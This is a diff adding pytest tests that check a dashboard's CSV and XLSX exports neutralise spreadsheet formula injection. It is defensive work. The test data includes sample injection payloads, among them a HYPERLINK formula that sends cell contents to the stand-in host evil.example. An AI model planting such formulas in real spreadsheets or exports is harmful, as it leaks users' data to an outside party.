@@ -10,7 +10,8 @@ import pytest
 
 from builders import build_db, order_row, reader_for, store_row
 from dashboard import ops
-from dashboard.export import RANK_CHANGE, RATE, MONEY, record_download, to_csv, to_xlsx
+from dashboard.export import RANK_CHANGE, RATE, MONEY, to_csv, to_xlsx
+from dashboard.ui.downloads import record_download
 from dashboard.metrics import METRICS, MetricArgs
 from dashboard.period import Period
 from dashboard.ui.leaderboard_view import headers
@@ -62,3 +63,49 @@ def test_download_is_audited(tmp_path, monkeypatch):
     assert (row["username"], row["event"]) == ("east", "export")
     assert json.loads(row["detail"]) == {"what": "store_leaderboard", "rows": 3, "format": "xlsx",
                                          "period": "2026-03-10..2026-03-10"}
+
+
+# --- formula injection (OWASP "CSV Injection"): data text is never a formula ----------
+
+EVIL = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)", "+1+2", "-3+4",
+        "\tcmd", "\rcmd", "普通门店"]
+
+
+@pytest.fixture
+def evil_board():
+    import pandas as pd
+    return pd.DataFrame({"store_name": EVIL, "store_id": [f"S{i}" for i in range(len(EVIL))],
+                         "sales": [100.0, -25.5, 0.0, 3.0, -1.0, 2.0, 1.0, 5.0],
+                         "sales_pop": [-0.5, None, 0.25, -1.0, 0.0, 0.1, 0.2, 0.3]})
+
+
+def test_xlsx_writes_text_that_looks_like_a_formula_as_a_string(evil_board):
+    import zipfile
+    data = to_xlsx(evil_board, headers(list(evil_board.columns)))
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and 't="f"' not in sheet  # no formula cell at all
+    ws = openpyxl.load_workbook(io.BytesIO(data)).active
+    names = [ws.cell(row=r, column=1) for r in range(2, 2 + len(EVIL))]
+    assert [c.data_type for c in names] == ["s"] * len(EVIL)
+    # Shown exactly as named, nothing added (XML reads a CR back as a line feed).
+    assert [c.value for c in names] == [v.replace("\r", "\n") for v in EVIL]
+    sales = [ws.cell(row=r, column=3) for r in range(2, 2 + len(EVIL))]
+    assert [c.value for c in sales] == [100, -25.5, 0, 3, -1, 2, 1, 5] and all(c.data_type == "n" for c in sales)
+
+
+def test_xlsx_survives_control_characters_in_text():
+    import pandas as pd
+    df = pd.DataFrame({"store_name": ["a\x00b", "c\x07d"], "sales": [1.0, 2.0]})
+    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(df))).active
+    assert [ws["A2"].value, ws["A3"].value] == ["a\ufffdb", "c\ufffdd"]
+
+
+def test_csv_prefixes_formula_text_but_not_numbers(evil_board):
+    import csv as csvmod
+    text = to_csv(evil_board, headers(list(evil_board.columns))).decode("utf-8-sig")
+    rows = list(csvmod.reader(io.StringIO(text, newline="")))
+    assert [r[0] for r in rows[1:]] == ["'" + v if v[0] in "=+-@\t\r" else v for v in EVIL]
+    assert rows[1][0] == "'=1+1" and rows[3][0] == "'@SUM(A1:A9)" and rows[8][0] == "普通门店"
+    # Negative numbers are numbers, not text: written as they are.
+    assert [r[2] for r in rows[1:3]] == ["100.0", "-25.5"] and rows[1][3] == "-0.5" and rows[2][3] == ""
